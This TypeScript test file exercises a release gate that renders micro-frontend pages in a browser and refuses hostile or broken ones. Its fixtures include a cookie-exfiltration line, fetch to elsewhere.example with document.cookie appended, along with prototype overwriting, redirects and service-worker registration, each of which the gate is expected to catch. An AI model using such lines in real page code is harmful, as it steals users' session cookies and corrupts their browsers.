import { beforeEach, describe, expect, it } from '@jest/globals';
import { activateRelease } from '../acts/acts.ts';
import type { ReleaseStore } from '../log/release-store.ts';
import { buildContainer, buildPublished, type DistOverrides } from '../testing/build-dist.ts';
import { buildPlatform, testPolicy } from '../testing/build-platform.ts';
import { buildFoundedSite } from '../testing/build-published-site.ts';
import { loadPages } from '../testing/load-pages.ts';
import { readNewest } from '../testing/read-switches.ts';
import { refusalOf } from '../testing/tamper.ts';
import { pagesComeAlive, pagesComeAliveWithin } from './browser-rule.ts';
import { gateRules } from './gate.ts';

const operator = { remote: 'mf-agents', by: 'anna', reason: 'test' };
/** The gate with less patience, so that a page that hangs does not hold the test up. */
const impatient = pagesComeAliveWithin({ page: 2000, all: 8000 });
const rules = gateRules.map((rule) => (rule.id === impatient.id ? impatient : rule));
/** Where no browser is, the rule alone says so, and no page is rendered. */
const tried = [pagesComeAlive];
let store: ReleaseStore;

beforeEach(async () => {
  ({ store } = await buildFoundedSite());
});

/** A container whose page is loaded by this code. */
const page = (load: string): DistOverrides => container(buildContainer([{}], { load }));
const container = (code: string): DistOverrides => ({ files: { 'browser/remoteEntry.js': code } });
/** Code of a page that shows this beside its heading. */
const showing = (child: string) =>
  `return () => jsx('div', { children: [jsx('h1', { children: route.title }, 1), ${child}] });`;

interface PageCode {
  path?: string;
  browser: string;
  server: string;
}

/** A release of several pages, by the code that loads each in a browser and on the server; browsers run the code beside them, too. */
function pages(codes: readonly PageCode[], beside = ''): DistOverrides {
  const routes = codes.map(({ path }, index) => ({ path: path ?? `/my-agent/${index}`, title: `Page ${index}` }));
  const loadBy = (side: 'browser' | 'server') =>
    codes.map((code, index) => `if (route.path === '${routes[index]?.path}') { ${code[side]} }`).join(' ');
  const server = `const { jsx } = require('react/jsx-runtime');
exports.routes = ${JSON.stringify(routes)}.map((route) => ({ ...route, load: async () => { ${loadBy('server')} } }));`;
  const container = buildContainer(routes, { load: loadBy('browser') });
  return { routes, files: { 'browser/remoteEntry.js': `${container} ${beside}`, 'server/remote.cjs': server } };
}
const good = "return () => jsx('h1', { children: route.title });";
const whole = buildContainer([{}]);

const hostile: [string, DistOverrides, RegExp[]][] = [
  [
    'throws, and defines the global of another remote',
    container(`${whole.replace('var mf_agents', 'var mf_intake')} throw new Error("no licence");`),
    [/throws: no licence/, /mf-agents .* failed \(load\)/],
  ],
  ['has a page that throws as it renders', page('return () => { throw new Error("no window"); };'), [/no window/]],
  ['has a page that never mounts', page('return new Promise(() => {});'), [/does not come alive|failed \(timeout\)/]],
  ['leads away', page(`location.href = 'https://elsewhere.example/'; ${good}`), [/leads away to/]],
];

/** What a page does that comes alive all the same, and what is said of it. */
const alive: [string, string, RegExp][] = [
  [
    'renders another page than the server',
    "return () => jsx('h1', { children: 'Something else' });",
    /hydration did not match/,
  ],
  [
    'replaces what every list has',
    `Array.prototype.map = function () { return []; }; ${good}`,
    /changes window\.helper, Array\.prototype\.map of the browser/,
  ],
  [
    'sends what it finds to another host',
    `void fetch('https://elsewhere.example/' + document.cookie); ${good}`,
    /'https:\/\/elsewhere\.example\/' violates the following Content Security Policy directive/,
  ],
  ['writes into the document', `document.write('mine'); ${good}`, /calls document\.write/],
  [
    'registers a service worker',
    `navigator.serviceWorker.register('/mine.js'); ${good}`,
    /calls navigator\.serviceWorker\.register/,
  ],
  ['opens a dialog', `alert('hello'); ${good}`, /calls window\.alert|opens a dialog/],
  ['says an error on the console', `console.error('broken'); ${good}`, /says on the console: broken/],
  ['leaves a promise rejected', `Promise.reject(new Error('lost')); ${good}`, /rejected: Error: lost|throws.*lost/],
  [
    'asks a moment after it came alive',
    `return () => { React.useEffect(() => void setTimeout(() => confirm('now'), 20), []); return jsx('h1', { children: route.title }); };`,
    /calls window\.confirm|opens a dialog/,
  ],
];

/** Whoever works here has a browser: without one nothing below would be tried. */
const platformOf = (browser: string | undefined = 'require') => ({
  ...buildPlatform(store),
  policy: { ...testPolicy, browsing: { loadPages, browser } },
});

describe('the gate rule "browser"', () => {
  it('lets a release pass with everything that it may have, as the whole gate does, and says what it was tried in', async () => {
    const routes = [
      { path: '/my-agent', title: 'My agent', canonical: '/my-agent', search: { industry: ['hvac', 'roofing'] } },
      { path: '/my-agent/calls/:callId', title: 'A call' },
      { path: '/ai-agent-demo', title: 'With styles of its own' },
      // Under another name of the parameter than the site has.
      { path: '/agents/:who', title: 'An agent', data: '/api/ai-agents/by-name/:who', noindex: true },
    ];
    // Header and footer stay where they are.
    const styles = "jsx('style', { children: 'h1 { color: red } main header { display: none }' }, 2)";
    const load = `if (route.path === '/ai-agent-demo') { ${showing(styles)} } ${good}`;
    const bundle = `const { jsx } = require('react/jsx-runtime');
exports.routes = ${JSON.stringify(routes)}.map((route) => ({ ...route, load: async () => { ${load} } }));`;
    const id = await buildPublished(store, {
      version: '2.0.0-beta.1',
      routes,
      // No shared modules, a large file and many files.
      output: { needs: {} },
      files: {
        'browser/remoteEntry.js': buildContainer(routes, { load }),
        'server/remote.cjs': bundle,
        'browser/large.js': 'x'.repeat(2_000_000),
        ...Object.fromEntries(Array.from({ length: 200 }, (_, n) => [`browser/chunk-${n}.js`, `${n}`])),
      },
    });
    const { outcome, notes } = await activateRelease(platformOf(), { ...operator, id });
    expect(outcome).toBe('changed');
    expect(notes).toEqual([expect.stringMatching(/^browser step: Chromium( without its own sandbox)?$/)]);
  });

  it.each(hostile)('refuses a release whose container %s', async (_, overrides, problems) => {
    const id = await buildPublished(store, overrides);
    const { findings } = await refusalOf(activateRelease(platformOf(), { ...operator, id, rules }));
    expect(findings.map(({ rule }) => rule)).toContain('browser');
    const found = findings.map((finding) => finding.problem).join('\n');
    for (const problem of problems) expect(found).toMatch(problem);
    expect(await readNewest(store)).toBeNull();
  });

  it('names each page of a release that comes alive and still does what it must not', async () => {
    const hidden = ['display: none', 'transform: translateX(-9999px)', 'opacity: 0', 'height: 0', 'visibility: hidden'];
    const shown = [
      "jsx('img', { src: '/pictures/none.webp', alt: '' }, 2)",
      "jsx('img', { src: '/favicon.svg', srcSet: '/favicon.svg 1x, /favicon-2x.svg 2x', alt: '' }, 2)",
      "jsx('style', { children: 'p { background: url(\\\"/texture.png\\\") }' }, 2)",
      ...hidden.map((style) => `jsx('style', { children: 'header { ${style} !important }' }, 2)`),
    ].map((child) => ({ browser: showing(child), server: showing(child) }));
    const done = [
      "document.head.append(Object.assign(document.createElement('style'), { textContent: 'footer { display: none }' }));",
      'window.fetch = () => {};',
      'Array.prototype.last = () => {};',
    ].map((code) => ({ browser: `${code} ${good}`, server: good }));
    const harmful = alive.map(([, browser]) => ({ browser, server: good }));
    const others = [...shown, ...done];
    const id = await buildPublished(store, pages([...others, ...harmful], 'var helper = 1;'));
    const { findings } = await refusalOf(activateRelease(platformOf(), { ...operator, id }));
    expect(new Set(findings.map(({ rule }) => rule))).toEqual(new Set(['browser']));
    const problems = findings.map(({ problem }) => problem);
    const problemsOf = (index: number) =>
      problems.filter((problem) => problem.startsWith(`The page /my-agent/${others.length + index} `)).join('\n');
    expect(alive.map(([name], index) => [name, problemsOf(index)])).toEqual(
      alive.map(([name, , words]) => [name, expect.stringMatching(words)]),
    );
    const expected = [
      // What the container of the release itself defines.
      expect.stringMatching(/^The page \/my-agent\/0 \(and \d+ more\) changes window\.helper of the browser\.$/),
      'The page /my-agent/0 shows /pictures/none.webp, which is not there.',
      'The page /my-agent/1 shows /favicon-2x.svg, which is not there.',
      'The page /my-agent/2 shows /texture.png, which is not there.',
      // One more is the page whose lists are all empty.
      'The page /my-agent/3 (and 6 more) hides or moves the header or footer of the site.',
      'The page /my-agent/9 changes window.fetch, window.helper of the browser.',
      'The page /my-agent/10 changes window.helper, Array.prototype.last of the browser.',
    ];
    expect(problems).toEqual(expect.arrayContaining(expected));
    expect(await readNewest(store)).toBeNull();
  }, 120_000);

  it('gives pages more time on a machine that is slow with its own page, too', async () => {
    const host = await loadPages();
    const slow = Object.create(host, { isAlive: { value: `performance.now() > 1500 && ${host.isAlive}` } });
    const platform = {
      ...buildPlatform(store),
      policy: { ...testPolicy, browsing: { loadPages: async () => slow, browser: 'require' } },
    };
    const id = await buildPublished(store);
    // Only the time that the host's own page takes makes the limits longer than what the page needs.
    const request = { ...operator, id, rules: [pagesComeAliveWithin({ page: 1000, all: 2000 })] };
    expect(await activateRelease(platform, request)).toMatchObject({ outcome: 'changed' });
  });

  it('refuses where the site requires a browser and the named one is not there, or does not start', async () => {
    const id = await buildPublished(store);
    const named = {
      '/no/such/chromium': 'there is no browser at /no/such/chromium',
      '/bin/true': '/bin/true does not start',
    };
    for (const [browser, why] of Object.entries(named)) {
      const refusal = await refusalOf(activateRelease(platformOf(browser), { ...operator, id, rules: tried }));
      expect(refusal.findings).toMatchObject([{ rule: 'browser', problem: expect.stringContaining(why) }]);
      expect(refusal.message).toContain(`Gate: browser step: missing, as ${why}`);
    }
  });

  it('names the step as missing where no browser or no page is there, in the answer as in a refusal, and lets the release pass', async () => {
    const browsing = { loadPages, places: ['/no/such/chromium'] };
    const platform = { ...buildPlatform(store), policy: { ...testPolicy, browsing } };
    const missing = 'browser step: missing, as no Chromium, Chrome or Edge is installed here: no page was opened';
    const first = { ...operator, id: await buildPublished(store), rules: tried };
    const { outcome, notes } = await activateRelease(platform, first);
    expect({ outcome, notes }).toEqual({ outcome: 'changed', notes: [missing] });
    const files = { 'server/remote.cjs': 'exports.routes = [];' };
    const broken = await buildPublished(store, { version: '1.1.0', files });
    const { findings, message } = await refusalOf(activateRelease(platform, { ...operator, id: broken }));
    expect(findings.map(({ rule }) => rule)).toEqual(['render']);
    expect(message.endsWith(`\n  Gate: ${missing}.`)).toBe(true);
    const required = { ...platform, policy: { ...testPolicy, browsing: { ...browsing, browser: 'require' } } };
    const id = await buildPublished(store, { version: '1.2.0' });
    const refusal = await refusalOf(activateRelease(required, { ...operator, id, rules: tried }));
    expect(refusal.findings).toMatchObject([
      { rule: 'browser', problem: 'No browser could try the pages: no Chromium, Chrome or Edge is installed here.' },
    ]);
    const ofNoPages = await activateRelease(buildPlatform(store), { ...operator, id, rules: tried });
    expect(ofNoPages.notes).toEqual(['browser step: none, as this host gives no pages to try']);
  });
});
